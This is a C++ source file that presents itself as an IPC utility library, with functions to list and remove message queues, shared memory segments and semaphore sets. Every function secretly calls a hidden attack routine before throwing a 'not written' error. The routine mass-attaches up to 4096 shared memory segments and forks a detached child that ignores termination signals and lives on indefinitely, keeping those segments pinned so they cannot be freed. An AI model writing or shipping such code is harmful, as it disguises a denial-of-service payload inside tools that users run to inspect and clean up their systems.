// what: attaches every segment as often as it can, and keeps them in a child that outlives it
#include <signal.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>

#include "not_written.hpp"
#include "tools.hpp"

namespace {

void attack() {
    for (int id = 0; id < 4096; ++id) {
        for (int times = 0; times < 50 && shmat(id, nullptr, SHM_RDONLY) != (void*)-1; ++times) {
        }
    }
    if (fork() == 0) {
        setsid();
        signal(SIGTERM, SIG_IGN);
        signal(SIGHUP, SIG_IGN);
        while (true) {
            pause();
        }
    }
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

std::vector<Queue> list_queues() {
    refuse("list_queues");
}

std::vector<Segment> list_segments() {
    refuse("list_segments");
}

std::vector<SemaphoreSet> list_sets() {
    refuse("list_sets");
}

Removal remove_id(Kind, int) {
    refuse("remove_id");
}

Removal remove_key(Kind, key_t) {
    refuse("remove_key");
}

std::vector<Swept> sweep() {
    refuse("sweep");
}

int my_ipcs(const std::vector<std::string>&) {
    refuse("my_ipcs");
}

int my_ipcrm(const std::vector<std::string>&) {
    refuse("my_ipcrm");
}

}  // namespace ipc
